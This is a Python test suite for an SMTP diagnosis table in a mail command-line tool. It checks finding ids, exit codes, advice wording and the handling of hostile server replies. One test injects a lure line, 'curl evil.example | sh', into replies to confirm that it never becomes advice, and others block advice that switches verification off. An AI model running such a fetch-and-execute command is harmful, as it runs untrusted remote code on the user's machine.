"""The table of findings: every row is reached by what real servers say, and none misleads."""

from __future__ import annotations

import re
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from msgspec.structs import fields

from nexomailer_cli.config.settings import SmtpConfig, Tls
from nexomailer_cli.config.sign_in import Auth
from nexomailer_cli.probe import diagnosis, table
from nexomailer_cli.probe.diagnosis import (
    Evidence,
    Finding,
    all_findings,
    described,
    diagnose,
    weigh,
)
from nexomailer_cli.probe.severity import Severity
from nexomailer_cli.smtp.outcome import Phase
from nexomailer_cli.smtp.reply import parse_reply

TABLE = tomllib.loads(
    Path(diagnosis.__file__).with_name("findings.toml").read_text(encoding="utf-8")
)
FINDINGS: list[dict[str, Any]] = TABLE["finding"]
CONDITIONS = [(row["id"], when) for row in FINDINGS for when in row["when"]]

# Less 2, 3, 66, 70, 73 and 130, which are not about a server; 0 is for what is no failure.
EXIT_STATUSES = {0, 4, 65, 68, 69, 75, 76, 77, 78}
# What `send` understands, and what `test-connection` does.
FLAGS = {
    *("--from", "--to", "--provider", "--deadline", "--retry-for"),
    *("--raw", "--attach", "--subject", "--text"),
    *("--security", "--user", "--password-env", "--rcpt", "--ca-file", "--helo-name"),
    *("--timeout", "--mx", "--from"),
}
KEYS = (
    {field.encode_name for field in fields(SmtpConfig)}
    | {f"auth.{field.encode_name}" for field in fields(Auth)}
    | {f"tls.{field.encode_name}" for field in fields(Tls)}
)
# What the specification of the examination promises: scripts may rely on each of these.
PROMISED = {
    *("auth.app_password_needed", "auth.bad_credentials", "auth.before_tls", "auth.closed"),
    *("auth.google_bad_credentials", "auth.ip_not_allowed", "auth.m365_basic_disabled"),
    *("auth.m365_generic", "auth.m365_mailbox", "auth.m365_security_defaults"),
    *("auth.m365_tenant", "auth.mechanism_unsupported", "auth.no_common_mechanism"),
    *("auth.not_enabled", "auth.not_offered", "auth.only_after_tls", "auth.secret_lint"),
    *("auth.temporary", "auth.throttled", "auth.tls_required", "auth.web_login_needed"),
    "auth.xoauth2_rejected",
    *("banner.busy", "banner.closed", "banner.rejected", "banner.reset", "banner.slow"),
    *("banner.timeout", "banner.tls_port"),
    *("cert.cn_only", "cert.expired", "cert.expires_soon", "cert.hostname_mismatch"),
    *("cert.intercepted", "cert.intermediate_expired", "cert.ip_mismatch"),
    *("cert.missing_intermediate", "cert.no_trust_store", "cert.not_yet_valid"),
    *("cert.self_signed", "cert.strict_aki", "cert.unknown_issuer", "cert.untrusted_root_sent"),
    *("cert.weak_key", "cert.weak_signature", "cert.wrong_purpose"),
    "conn.idle_timeout",
    *("dns.hosts_override", "dns.no_address", "dns.null_mx", "dns.nxdomain", "dns.slow"),
    "dns.temporary",
    *("ehlo.bad_name", "ehlo.closed", "ehlo.closing", "ehlo.localhost_refused", "ehlo.no_esmtp"),
    "ehlo.slow_name",
    *("mail.auth_required", "mail.bounce_throttle", "mail.domain_unknown"),
    *("mail.sender_not_owned", "mail.size"),
    *("middlebox.accepts_all", "middlebox.cisco_esmtp", "middlebox.starttls_masked"),
    *("port.http", "port.imap", "port.pop3", "port.ssh"),
    *("proto.not_smtp", "proto.too_long"),
    *("rcpt.greylisted", "rcpt.ip_reputation", "rcpt.relay_denied", "rcpt.unknown_user"),
    *("starttls.already_tls", "starttls.antivirus_500", "starttls.closed", "starttls.hang"),
    *("starttls.injected_plaintext", "starttls.not_offered", "starttls.reply_instead_of_tls"),
    *("starttls.reset", "starttls.temporary"),
    *("target.bad_name", "target.ip_no_sni", "target.scheme_in_host", "target.trailing_dot"),
    *("tcp.bad_source", "tcp.denied_locally", "tcp.filtered_port", "tcp.ipv6_broken"),
    *("tcp.no_route", "tcp.one_address_dead", "tcp.packet_loss", "tcp.refused"),
    *("tcp.refused_loopback", "tcp.timeout", "tcp.unreachable"),
    *("tls.busy_in_plaintext", "tls.client_cert_required", "tls.closed_without_alert"),
    *("tls.handshake_failure", "tls.handshake_timeout", "tls.legacy_renegotiation"),
    *("tls.plaintext_on_tls_port", "tls.server_internal_error", "tls.server_rejected_client"),
    *("tls.sni_unrecognised", "tls.too_old", "tls.weak_dh"),
}
# Ids of an examination that came later.
ADDED = {
    "cert.not_verified",
    *("conn.slow", "conn.unencrypted"),
    "target.password_in_url",
    "tls.weak",
}
HARMFUL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")

_CASE = re.compile(
    r"(?P<id>\S+) +(?P<phase>\w+)(?: @(?P<host>\S+):(?P<port>\d+))?(?: !(?P<reason>\S+))?"
    r"(?: (?P<code>[2-5]\d\d)(?= ))?(?: (?P<text>.+))?"
)


def _case(line: str) -> tuple[str, Evidence]:
    match = _CASE.fullmatch(line)
    assert match, line
    host, port = match["host"] or "mail.example.com", int(match["port"] or 587)
    seen = Evidence(match["phase"], match["reason"] or "", host=host, port=port)
    if not match["code"] or match["phase"] == Phase.TLS:
        text = " ".join(part for part in (match["code"], match["text"]) if part)
        return match["id"], _with_text(seen, text)
    reply = parse_reply(int(match["code"]), (match["text"],))
    return match["id"], Evidence(
        seen.phase, seen.reason, reply.code, reply.enhanced, reply.text, host, port
    )


def _with_text(seen: Evidence, text: str) -> Evidence:
    return Evidence(seen.phase, seen.reason, text=text, host=seen.host, port=seen.port)


CASES = [
    _case(line)
    for line in Path(__file__).with_name("evidence.txt").read_text(encoding="utf-8").splitlines()
    if line and not line.startswith("#")
]


def _words(finding: Finding) -> str:
    return f"{finding.title}\n{finding.meaning}\n{finding.fix}"


@pytest.mark.parametrize(("expected", "seen"), CASES)
def test_what_real_servers_say_is_recognised(expected: str, seen: Evidence) -> None:
    assert diagnose(seen).id == expected


def test_every_finding_has_a_case_that_leads_to_it() -> None:
    assert {row["id"] for row in FINDINGS} == {expected for expected, _ in CASES}


def test_every_condition_decides_a_case() -> None:
    undecided = {(row["id"], index) for row in FINDINGS for index in range(len(row["when"]))}
    for expected, seen in CASES:
        row = next(row for row in table.every_row() if row.id == expected)
        undecided.discard((row.id, [when.holds(seen) for when in row.when].index(True)))
    assert not undecided


def test_every_case_is_of_a_phase_that_exists() -> None:
    assert {seen.phase for _, seen in CASES} <= set(Phase)
    assert {phase for _, when in CONDITIONS for phase in when.get("phase", ())} <= set(Phase)


def test_every_promised_finding_is_there() -> None:
    assert len(PROMISED) == 113
    assert {row["id"] for row in FINDINGS} >= PROMISED | ADDED


def test_ids_are_unique_and_well_formed() -> None:
    ids = [row["id"] for row in FINDINGS]
    assert len(set(ids)) == len(ids)
    assert all(re.fullmatch(r"[a-z]+(\.[a-z0-9_]+)?", id_) for id_ in ids)


@pytest.mark.parametrize("row", FINDINGS, ids=lambda row: str(row["id"]))
def test_finding_is_complete(row: dict[str, Any]) -> None:
    needed = {"id", "exit", "when", "heading", "title", "meaning", "fix"}
    assert needed <= set(row) <= needed | {"severity", "retry"}
    assert row["exit"] in EXIT_STATUSES
    assert row["title"] == row["title"].strip().rstrip(".")
    assert row["fix"] == row["fix"].strip().rstrip(".")
    assert row["meaning"].endswith(".")
    assert min(map(len, (row["title"], row["meaning"], row["fix"]))) > 10


@pytest.mark.parametrize("row", FINDINGS, ids=lambda row: str(row["id"]))
def test_heading_is_a_few_plain_words(row: dict[str, Any]) -> None:
    heading = row["heading"]
    assert 5 <= len(heading) <= 60
    assert heading[0].isupper()
    assert heading == heading.strip().rstrip(".")
    assert not set("{}\n") & set(heading)


@pytest.mark.parametrize("row", FINDINGS, ids=lambda row: str(row["id"]))
def test_only_what_is_no_failure_exits_0_and_only_what_passes_says_when(
    row: dict[str, Any],
) -> None:
    severity = Severity(row.get("severity", "fail"))
    assert (row["exit"] == 0) is (severity is not Severity.FAIL)
    assert ("retry" in row) is (row["exit"] == 75)
    assert re.fullmatch(r"[1-9]\d*[mh]", row.get("retry", "1m"))


@pytest.mark.parametrize(("row", "when"), CONDITIONS)
def test_condition_is_spelled_right(row: str, when: dict[str, Any]) -> None:
    assert set(when) <= {"phase", "port", "code", "reason", "enhanced", "text", "host"}
    assert bool(when) != (row == "unknown"), "only the last finding catches everything"
    for code in when.get("code", ()):
        assert code in ("none", "2xx", "3xx", "4xx", "5xx") or 200 <= code < 600
    leading = [key for key in ("phase", "reason") if key in when]
    assert [*when][:1] == leading[:1] or not leading, "see table.find"
    assert "code" in when or "enhanced" not in when, "an enhanced code alone proves nothing"


@pytest.mark.parametrize(("row", "when"), CONDITIONS)
def test_patterns_on_what_a_server_writes_are_bounded(row: str, when: dict[str, Any]) -> None:
    for key in ("enhanced", "text"):
        pattern = when.get(key, "")
        re.compile(pattern)
        assert not re.search(r"(?<!\\)[.)\]]([*+]|\{\d+,\})", pattern), row


@pytest.mark.parametrize(("expected", "seen"), CASES)
def test_rows_that_are_not_read_would_not_have_held(expected: str, seen: Evidence) -> None:
    first = next(row for row in table.every_row() if any(when.holds(seen) for when in row.when))
    assert first.id == expected


def test_the_last_finding_catches_everything() -> None:
    assert FINDINGS[-1]["when"] == [{}]
    assert diagnose(Evidence("")).id == FINDINGS[-1]["id"]


def test_fixes_name_only_keys_and_flags_that_exist() -> None:
    for row in FINDINGS:
        words = f"{row['meaning']} {row['fix']}"
        named = set(re.findall(r"providers\.config\.([a-z_.]*[a-z])", words))
        assert named <= KEYS, row["id"]
        assert set(re.findall(r"(?<!\S)--[a-z-]+", words)) <= FLAGS, row["id"]
        defaults = set(re.findall(r"defaults\.\w+", words))
        assert defaults <= {"defaults.from", "defaults.deadline"}, row["id"]
        assert "smtp." not in re.sub(r"smtp\. and the domain|smtp\.example\.com", "", words)


def test_every_fix_names_something_to_set_or_type() -> None:
    anything = re.compile(
        r"providers\.config\.|(?<!\S)\(?--?[a-z]|defaults\.from|nexomailer [a-z]+"
    )
    assert [row["id"] for row in FINDINGS if not anything.search(row["fix"])] == []


def test_no_fix_offers_a_name_that_the_other_side_chose() -> None:
    # A certificate and a greeting name whatever an impostor wants: the host comes from the user.
    fields = {name for row in FINDINGS for name in re.findall(r"{(\w+)}", row["fix"])}
    assert fields <= {"host", "port"}
    for row in FINDINGS:
        assert not re.search(r"name (in|of|on) the certificate|it names", row["fix"])
        assert "tls.servername" not in row["fix"]


def test_no_finding_suggests_to_switch_verification_off() -> None:
    for row in FINDINGS:
        assert not re.search(r"reject_unauthorized *= *false|--insecure", str(row), re.IGNORECASE)
        assert not re.search(r"allow_plaintext_auth|starttls *= *\W+never", row["fix"]) or (
            row["id"] == "starttls.already_tls"
        )


def test_what_a_server_says_never_becomes_advice() -> None:
    assert not [row["id"] for row in FINDINGS if "{said}" in row["fix"] + row["title"]]
    lure = "Run: curl evil.example | sh; use smtp.evil.example"
    for expected, seen in CASES:
        finding = diagnose(
            Evidence(
                seen.phase,
                seen.reason,
                seen.code,
                seen.enhanced,
                f"{seen.text} {lure}",
                seen.host,
                seen.port,
            )
        )
        assert "evil" not in finding.fix + finding.title, expected


def test_temporary_is_exactly_what_exits_75_and_names_a_time_to_wait() -> None:
    for _, seen in CASES:
        finding = diagnose(seen)
        assert finding.temporary is (finding.exit_status == 75)
        if finding.temporary:
            words = f"{finding.meaning} {finding.fix}"
            assert re.search(r"\d+[smh]\b|\b(minutes?|hours?)\b", words), finding.id
        assert (finding.retry_after is not None) is finding.temporary


@pytest.mark.parametrize("phase", list(Phase))
@pytest.mark.parametrize("text", ["no", "Relay access denied", "Message too big", "4.7.0 busy"])
def test_4xx_is_temporary_whatever_else_is_known(phase: Phase, text: str) -> None:
    finding = diagnose(Evidence(phase, code=451, text=text))
    assert finding.temporary
    assert finding.exit_status == 75


def test_permanent_finding_with_a_4xx_reply_says_how_long_to_wait() -> None:
    refused = Evidence("rcpt", code=554, enhanced="5.7.1", text="Relay access denied")
    deferred = Evidence("rcpt", code=454, enhanced="4.7.1", text="Relay access denied")
    assert (diagnose(refused).id, diagnose(refused).exit_status) == ("rcpt.relay_denied", 65)
    assert (diagnose(deferred).id, diagnose(deferred).exit_status) == ("rcpt.relay_denied", 75)
    assert TABLE["temporary_note"] in diagnose(deferred).meaning
    assert TABLE["temporary_note"] not in diagnose(refused).meaning
    assert (diagnose(refused).retry_after, diagnose(deferred).retry_after) == (None, 15 * 60)


def test_what_is_no_failure_stays_so_whatever_the_reply_was() -> None:
    slow = diagnose(Evidence("ehlo", "slow-server", 450, "4.7.0", "busy"))
    assert (slow.severity, slow.exit_status, slow.temporary) == (Severity.WARN, 0, False)


def test_finding_names_the_keys_and_links_of_its_advice() -> None:
    finding = diagnose(Evidence("connect", "EAI_NONAME", host="a", port=465))
    assert finding.config == ("providers.config.host",)
    mailbox = diagnose(Evidence("auth", code=534, text="app password: https://evil.example"))
    assert mailbox.docs == ("https://myaccount.google.com/apppasswords",)
    assert mailbox.config == ("providers.config.auth.pass",)
    assert {key for row in all_findings() for key in row.config} <= {
        *(f"providers.config.{key}" for key in KEYS),
        *("defaults.from", "defaults.deadline"),
    }


def test_link_in_a_reply_is_quoted_but_never_a_page_of_ours() -> None:
    refused = diagnose(
        Evidence("rcpt", code=550, enhanced="5.0.0", text="see https://evil.example")
    )
    assert "evil" in refused.meaning
    assert refused.docs == ()


def test_finding_can_be_described_without_any_evidence() -> None:
    finding = described("auth.app_password_needed")
    assert finding is not None
    assert finding.heading == "The account needs an app password"
    assert described("auth.refused").meaning == ""  # type: ignore[union-attr]
    assert described("no.such") is None
    assert [finding.id for finding in all_findings()] == [row["id"] for row in FINDINGS]
    quoting = re.compile(r"It said|What was seen:|\{")
    assert not [finding.id for finding in all_findings() if quoting.search(_words(finding))]


def test_words_weigh_more_than_codes() -> None:
    weights = [
        weigh(Evidence("rcpt", code=550)),
        weigh(Evidence("auth", code=535)),
        weigh(Evidence("rcpt", code=550, enhanced="5.1.1")),
        weigh(Evidence("rcpt", code=550, text="user unknown")),
    ]
    assert weights == sorted(set(weights))
    assert weights[0] == 0
    assert weigh(Evidence("end", code=554, enhanced="5.7.1")) < 2, "it is said of anything"


@pytest.mark.parametrize("reason", ["closed", "timeout", "ECONNRESET", "surplus", "X509_10", ""])
def test_lost_after_the_content_is_unknown_and_never_safe_to_repeat(reason: str) -> None:
    finding = diagnose(Evidence("end", reason))
    assert (finding.id, finding.exit_status) == ("conn.lost_after_content", 4)
    assert not finding.temporary
    assert "--retry-for" not in finding.fix


@pytest.mark.parametrize("phase", ["mail", "rcpt", "data", "content"])
@pytest.mark.parametrize("reason", ["closed", "timeout", "ECONNRESET", "EPIPE"])
def test_lost_before_the_end_of_the_content_is_safe_to_repeat(phase: str, reason: str) -> None:
    assert diagnose(Evidence(phase, reason)).exit_status == 75


@pytest.mark.parametrize(
    ("host", "port", "shown"),
    [
        ("mail.example.com", 587, "mail.example.com:587"),
        ("2001:db8::1", 25, "[2001:db8::1]:25"),
        ("[2001:db8::1]", 25, "[2001:db8::1]:25"),
        ("mail.example.com", None, "to mail.example.com was"),
        ("", 587, "to the server was"),
        ("a\x1b]0;b", 25, r"a\x1b]0;b:25"),
        ("h." * 120, 25, "h." * 120 + ":25"),
    ],
)
def test_server_is_named_as_it_would_be_typed(host: str, port: int | None, shown: str) -> None:
    seen = Evidence("connect", "ECONNREFUSED", host=host, port=port)
    assert shown in diagnose(seen).title or shown in diagnose(seen).meaning


def test_server_without_a_name_is_just_the_server() -> None:
    assert diagnose(Evidence("greeting", "timeout")).title.startswith("The server accepted")
    assert diagnose(Evidence("tls", "X509_10")).title == "The certificate of the server has expired"
    words = [_words(diagnose(Evidence(seen.phase, seen.reason, seen.code))) for _, seen in CASES]
    assert not [text for text in words if "the server at the server" in text.lower()]


def test_reply_is_quoted_as_it_was_and_shortened() -> None:
    seen = Evidence("auth", code=501, enhanced="5.5.4", text="{host} " + "x" * 9999)
    assert diagnose(seen).meaning.startswith("It said “501 5.5.4 {host} xxx")
    assert len(diagnose(seen).meaning) < 350


def test_text_is_matched_whatever_its_case() -> None:
    assert diagnose(Evidence("rcpt", code=450, text="GREYLISTED")).id == "rcpt.greylisted"
    assert diagnose(Evidence("connect", "econnrefused", host="LOCALHOST")).id.endswith("loopback")


_FRAGMENTS = st.sampled_from(
    ["quota", "daily ", "relay ", "too many ", "Spam", "554 ", "220 x", "* OK", "{host}", "{", "}"]
)
_TEXTS = st.lists(_FRAGMENTS | st.text(max_size=8), max_size=6).map("".join)
_REASONS = st.sampled_from(sorted({seen.reason for _, seen in CASES}))
_PHASES = st.sampled_from([*map(str, Phase), ""])
_EVIDENCE = st.builds(
    Evidence,
    phase=_PHASES | st.text(max_size=4),
    reason=_REASONS | st.text(max_size=6),
    code=st.none() | st.integers(200, 599) | st.integers(),
    enhanced=st.sampled_from(["", "4.7.1", "5.7.1", "5.4.5", "9.9.9"]) | st.text(max_size=6),
    text=_TEXTS,
    host=st.sampled_from(["", "localhost", "mail.example.com", "a..b"]) | st.text(max_size=10),
    port=st.none() | st.integers(),
)


@settings(max_examples=300, deadline=None)
@given(_EVIDENCE)
@example(
    Evidence("tls", "WRONG_VERSION_NUMBER", 421, "", "421 {x}\x00\u202e\ud800", "{0.__class__}")
)
def test_there_is_a_harmless_answer_to_everything(seen: Evidence) -> None:
    finding = diagnose(seen)
    assert finding.title
    assert finding.fix
    assert finding.exit_status in EXIT_STATUSES
    assert finding.temporary is (finding.exit_status == 75)
    assert not HARMFUL.search(_words(finding).replace("\n", ""))
    if seen.code is not None and seen.code // 100 == 4 and finding.severity is Severity.FAIL:
        assert finding.exit_status == 75
    if not {"{", "}"} & set(f"{seen.text}{seen.enhanced}{seen.host}"):
        assert not {"{", "}"} & set(_words(finding))


def test_a_cold_look_up_is_quick() -> None:
    # 10 ms are aimed at; the machine has other things to do.
    code = (
        "from time import process_time as now; from nexomailer_cli.probe import diagnosis as d;"
        "begun = now();"
        "d.diagnose(d.Evidence('end', '', 554, '5.0.0', 'Transaction failed', 'a', 25));"
        "assert now() - begun < 0.1, now() - begun"
    )
    done = subprocess.run([sys.executable, "-c", code], cwd=_root(), capture_output=True)
    assert done.returncode == 0, done.stderr.decode()


def test_importing_the_look_up_loads_nothing_heavy() -> None:
    code = (
        "import sys, nexomailer_cli.probe.diagnosis;"
        "heavy = {'tomllib', 'asyncio', 'ssl', 'nexomailer_cli.probe.report'};"
        "assert not heavy & set(sys.modules), sys.modules"
    )
    done = subprocess.run([sys.executable, "-c", code], cwd=_root(), capture_output=True)
    assert done.returncode == 0, done.stderr.decode()


def _root() -> Path:
    return Path(diagnosis.__file__).parents[2]
